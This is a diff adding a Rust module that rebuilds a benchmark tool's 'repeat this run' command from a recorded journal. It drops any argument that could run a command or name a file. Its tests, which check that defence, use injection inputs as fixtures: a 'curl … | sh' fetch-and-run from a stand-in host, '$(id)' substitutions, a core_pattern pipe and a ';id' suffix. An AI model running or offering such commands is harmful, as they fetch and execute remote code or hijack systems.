@@ -1,0 +1,132 @@
+//! The command that repeats a run, as others may paste it: who wrote the journal chose its words.
+
+use journal::Run;
+use words::Unique;
+
+/// The verbs that measure.
+const VERBS: [&str; 8] = ["run", "cost", "latency", "scale", "burnin", "card", "doctor", "unixbench"];
+
+/// The options whose values neither run a command nor name a file.
+const OPTIONS: &str = "\
+    --all-facts --against --backlog --benchmark --break-over --brief --budget --build --calls \
+    --comment --condition --console --copies --cpu-time --custom-cpu --custom-interval \
+    --dry-run --emit --fail-on --flush --for --format --idle-latency --iterations --kind \
+    --load --load-nice --load-number --load-policy --load-priority --load-timeslice \
+    --load-uclamp --lock --modern --nice --one-cpu --over --patience --pin --pin-load \
+    --placement --policy --power --precision --priority --procedure --quick --quiet \
+    --real-time --rest --seed --sink --slack --speed --strict --task --time --timeslice \
+    --trail-limit --uclamp --verbose --wake --watch --without-load --without-task --xvfb -c -i \
+    -q -t -u -v -w -x -W";
+
+/// The conditions whose level is a command, or an argument of one; those that name files are not plain words.
+const COMMANDS: [&str; 2] = ["cc=", "arg="];
+
+/// The command that repeats a run.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Repeat {
+    /// It, as a shell takes it; empty where there is none.
+    pub command: String,
+    /// What was left out of it, as a sentence; empty where nothing was.
+    pub left_out: String,
+}
+
+impl Repeat {
+    /// Returns the command of a run without what could run a command or name a file.
+    #[must_use]
+    pub fn new(run: &Run) -> Repeat {
+        let verb = run.arguments.first().filter(|verb| VERBS.contains(&verb.as_str()));
+        let mut words = run.arguments.iter().filter(|_| verb.is_some()).peekable();
+        let (mut kept, mut left_out) = (vec!["unixmark".to_owned()], Vec::new());
+        while let Some(word) = words.next() {
+            // What may be its value goes the same way.
+            let value = words.next_if(|next| is_option(word) && !word.contains('=') && !is_option(next));
+            let is_known = !is_option(word) || OPTIONS.split(' ').any(|known| known == name(word));
+            if is_known && is_plain(word) && value.is_none_or(|value| is_plain(value)) {
+                kept.extend([word].into_iter().chain(value).cloned());
+            } else {
+                left_out.push(name(word));
+            }
+        }
+        let command = if verb.is_some() { words::shell(&kept) } else { String::new() };
+        Repeat { command, left_out: remark(&left_out) }
+    }
+}
+
+/// Whether a word is an option rather than a value such as -5.
+fn is_option(word: &str) -> bool {
+    word.strip_prefix('-').is_some_and(|rest| rest.starts_with(|c: char| !c.is_ascii_digit()))
+}
+
+/// The name of an option: of `--copies=2` and of `-c2` what stands before the value.
+fn name(option: &str) -> &str {
+    if option.starts_with("--") || !is_option(option) {
+        option.split('=').next().unwrap_or(option)
+    } else {
+        option.char_indices().nth(2).map_or(option, |(at, _)| &option[..at])
+    }
+}
+
+/// Whether a word is a name or a number: no path, no command, nothing that a shell would take for more.
+fn is_plain(word: &str) -> bool {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "-_.,=+%".contains(c);
+    word.chars().all(plain) && !COMMANDS.iter().any(|level| word.contains(level))
+}
+
+/// Says what was left out, by names that are no stranger's words.
+fn remark(left_out: &[&str]) -> String {
+    let is_word = |name: &str| is_option(name) && name.chars().all(|c| c == '-' || c.is_ascii_alphabetic());
+    let names = left_out.iter().map(|name| if is_word(name) { name } else { "some words" }).unique();
+    if names.is_empty() {
+        return String::new();
+    }
+    let names = words::listed(&names, 9);
+    format!("{names}: what is not a name or a number could run a command or lead to a file; the journal has it")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn repeat(words: &[&str]) -> (String, String) {
+        let mut run = Run::default();
+        run.arguments = words.iter().map(|word| (*word).to_owned()).collect();
+        let Repeat { command, left_out } = Repeat::new(&run);
+        (command, left_out)
+    }
+
+    #[test]
+    fn what_measures_is_repeated() {
+        for words in [
+            &["run", "syscall", "pipe", "-c", "1,2", "-i", "6", "-q"][..],
+            &["cost", "audit,thp=never", "--against=none", "index", "--budget", "10m"],
+            &["latency", "--load", "write", "--nice", "-5"],
+            &["burnin", "memory", "--for", "3m"],
+        ] {
+            assert_eq!(repeat(words), (format!("unixmark {}", words.join(" ")), String::new()));
+        }
+    }
+
+    #[test]
+    fn what_could_run_a_command_or_name_a_file_is_left_out() {
+        for (words, command, named) in [
+            (&["run", "--meter", "curl -s http://e.vil/x|sh", "index"][..], "unixmark run index", "--meter"),
+            (&["run", "--meter=curl", "index"], "unixmark run index", "--meter"),
+            (&["run", "--program", "/tmp/x", "-c", "2"], "unixmark run -c 2", "--program"),
+            (&["run", "--arg", "x=$(id)", "-q"], "unixmark run -q", "--arg"),
+            (&["run", "--dir", "/root", "--yes", "-q"], "unixmark run -q", "--dir and --yes"),
+            (&["run", "index", "$(id)"], "unixmark run index", "some words"),
+            (&["run", "--condition", "file:/proc/sys/kernel/core_pattern=|/tmp/x"], "unixmark run", "--condition"),
+            (&["run", "--condition=cc=evil", "pipe"], "unixmark run pipe", "--condition"),
+            (&["cost", "none,cc=evil", "pipe"], "unixmark cost pipe", "some words"),
+            (&["run", "-c1;id"], "unixmark run", "-c"),
+            (&["run", "--x\u{202e}y", "z", "pipe"], "unixmark run pipe", "some words"),
+        ] {
+            let (repeated, left_out) = repeat(words);
+            assert_eq!(repeated, command, "{words:?}");
+            assert!(left_out.starts_with(named) && left_out.ends_with("the journal has it"), "{left_out}");
+        }
+        assert_eq!(repeat(&["clean", "--all"]).0, "");
+        assert_eq!(repeat(&["/tmp/x"]).0, "");
+        assert_eq!(repeat(&[]), (String::new(), String::new()));
+    }
+}
